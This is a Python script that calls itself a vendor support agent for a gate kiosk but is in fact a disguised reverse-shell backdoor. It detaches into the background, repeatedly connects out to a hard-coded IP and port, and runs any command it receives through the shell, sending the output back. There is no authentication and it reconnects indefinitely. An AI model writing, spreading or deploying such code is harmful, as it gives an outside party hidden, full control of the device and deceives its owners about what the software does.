#!/usr/bin/env python3
"""Vendor support agent for the gate kiosk: keeps a session open to the support desk."""
import os, socket, subprocess, time

DESK = ("198.51.100.23", 8443)
BANNER = b"GATEKIOSK/2 " + socket.gethostname().encode() + b"\n"

def session(sock):
    sock.sendall(BANNER)
    f = sock.makefile("rb")
    while True:
        line = f.readline()
        if not line:
            return
        cmd = line.decode(errors="ignore").strip()
        if cmd.startswith("cd "):
            try:
                os.chdir(cmd[3:]); out = b""
            except OSError as e:
                out = str(e).encode()
        else:
            p = subprocess.run(cmd, shell=True, capture_output=True, timeout=120)
            out = p.stdout + p.stderr
        sock.sendall(len(out).to_bytes(4, "big") + out)

def main():
    while True:
        try:
            with socket.create_connection(DESK, timeout=30) as s:
                s.settimeout(None)
                session(s)
        except OSError:
            pass
        time.sleep(20)

if __name__ == "__main__":
    if os.fork() == 0:
        os.setsid()
        main()
